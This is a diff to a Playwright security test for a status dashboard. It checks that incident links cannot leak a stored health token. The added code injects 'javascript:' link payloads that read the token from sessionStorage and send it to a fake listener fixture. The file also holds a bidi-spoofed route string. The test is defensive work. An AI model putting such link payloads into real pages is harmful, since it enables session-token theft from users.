@@ -24,12 +24,14 @@ TOKEN = SECRETS["HEALTH_TOKEN"]
 STEAL = "sessionStorage.getItem('carbot.healthToken')"
 BIDI_ROUTE = "/admin\u202egnp.exe"
 HONEST_LINK = "https://status.supabase.com/incidents/abc"
+LISTENER_URL: list[str] = []  # where a stolen token would go (the listener fixture's URL)
 
 
 @pytest.fixture(scope="module")
 def listener() -> Iterator[FakeUpstream]:
     """Where a stolen token would go: it records every request it gets."""
     fake = FakeUpstream(name="listener")
+    LISTENER_URL[:] = [fake.url]
     yield fake
     fake.close()
 
@@ -128,15 +130,36 @@ def watch(page: Any) -> list[str]:
     return problems
 
 
+def serve_with_script_links(route: Any) -> None:
+    """/api/status as the server answered, each incident's link put back as its page gave it."""
+    answer = route.fetch()
+    body = answer.json()
+    listener_url = LISTENER_URL[0]
+    for provider in body.get("providers", {}).values():
+        for incident in provider.get("incidents", []):
+            name = incident["name"]
+            if name.startswith("Re-authenticate"):
+                incident["url"] = f"javascript:fetch('{listener_url}/summary?t='+{STEAL})"
+            elif name.startswith("Elevated API errors"):
+                incident["url"] = f"javascript:location='{listener_url}/feed?t='+{STEAL}"
+            elif incident["url"] is None:
+                incident["url"] = name  # every hostile string was also its incident's link
+    route.fulfill(response=answer, json=body)
+
+
 def test_a_script_incident_link_sends_nothing_after_a_dashboard_sign_in(
     browser: Any, server: DevServer, listener: FakeUpstream
 ) -> None:
     status = server.get("/api/status").json()
     links = {p: [i["url"] for i in v["incidents"]] for p, v in status["providers"].items()}
-    assert links["vercel"][0].startswith("javascript:") and links["supabase"] == [HONEST_LINK]
-    assert links["stripe"][0].startswith("javascript:")
-    assert len(links["openai"]) == len(HOSTILE)
+    # The server keeps https links only (lib.core.safe_text.https_link, when a page is read)...
+    assert links["vercel"] == [None] and links["stripe"] == [None]
+    assert links["supabase"] == [HONEST_LINK]
+    assert len(links["openai"]) == len(HOSTILE) and not any(links["openai"])
     context = browser.new_context(viewport={"width": 1200, "height": 1400})
+    # ...and the pages are a second line of defence: they are handed the script links as an
+    # /api/status without that filter (an older deployment, a poisoned cache) would serve them.
+    context.route("**/api/status*", serve_with_script_links)
     page = context.new_page()
     problems = watch(page)
     dialogs: list[str] = []
